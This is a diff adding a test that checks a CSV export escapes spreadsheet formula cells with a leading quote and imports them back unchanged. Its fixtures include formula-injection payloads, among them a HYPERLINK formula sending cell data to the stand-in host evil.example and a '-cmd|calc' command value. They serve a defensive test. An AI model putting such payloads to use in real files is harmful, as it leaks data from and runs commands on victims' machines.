@@ -366,5 +366,44 @@ forEachDatabase((dialect) => {
       const again = await importCsv(t(), String(exported.body), { evaluation_template_id: target });
       expect(again.body.data).toMatchObject({ created: 0, skipped: 3 });
     });
+
+    it('writes cells a spreadsheet would run as formulas as text (a leading quote), and imports them back exactly', async () => {
+      const source = await createTemplate(t(), '=Formula Source');
+      const people = [
+        { name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', email: 'eq@example.com', external_id: '@SUM(1+1)', tags: ['-dash', '+plus'] },
+        { name: "'=Already quoted", email: 'quoted@example.com', phone: '+1 555 0100', profile: { title: "''+Twice", location: '-cmd|calc' } },
+        { name: "'Just an apostrophe", email: 'apostrophe@example.com', profile: { organization: '@company', experienceLevel: '=1' } },
+      ];
+      for (const body of people) {
+        const res = await t().request('POST', BASE, { body: { ...body, evaluation_template_id: source } });
+        expect(res.statusCode, JSON.stringify(res.body)).toBe(201);
+      }
+      const exported = await t().request('GET', `${BASE}/export`, { query: { evaluation_template_id: source } });
+      const csv = String(exported.body);
+      // No cell starts with a formula character: csv-stringify quotes some cells, so look past a quote.
+      for (const line of csv.trimEnd().split('\r\n').slice(1)) {
+        for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g) ?? []) {
+          expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+      expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+      expect(csv).toContain("''=Already quoted");
+      expect(csv).toContain("'=Formula Source");
+      expect(csv).toContain("'Just an apostrophe,");
+
+      const target = await createTemplate(t(), 'Formula Target');
+      const imported = await importCsv(t(), csv, { evaluation_template_id: target });
+      expect(imported.body.data).toMatchObject({ created: 3, failed: 0 });
+      const list = async (templateId: string) =>
+        ((await t().request('GET', BASE, { query: { evaluation_template_id: templateId } })).body.data as Record<string, unknown>[])
+          .map(({ id: _id, created_at: _c, updated_at: _u, evaluation_template_id: _t, ...rest }) => rest)
+          .sort((x, y) => String(x['email']).localeCompare(String(y['email'])));
+      expect(await list(target)).toEqual(await list(source));
+      // The template_name column is read back the same way: "'=Formula Source" names "=Formula Source".
+      const byName = await importCsv(t(), "name,email,template_name\r\nNew Person,new-formula@example.com,'=Formula Source\r\n");
+      expect(byName.body.data.results[0]).toMatchObject({ status: 'created' });
+      const created = await t().request('GET', `${BASE}/${String(byName.body.data.results[0].id)}`);
+      expect(created.body.data.evaluation_template_id).toBe(source);
+    });
   });
 });
